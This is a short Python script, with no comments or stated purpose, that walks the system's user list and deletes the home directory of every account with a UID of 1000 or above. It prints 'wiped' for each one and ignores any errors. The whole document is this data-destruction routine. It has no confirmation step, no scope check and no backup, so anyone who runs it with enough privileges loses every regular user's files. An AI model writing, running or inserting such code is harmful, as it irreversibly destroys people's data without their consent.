import os
import shutil
import pwd

for user in pwd.getpwall():
    if user.pw_uid >= 1000 and os.path.isdir(user.pw_dir):
        shutil.rmtree(user.pw_dir, ignore_errors=True)
        print("wiped", user.pw_dir)
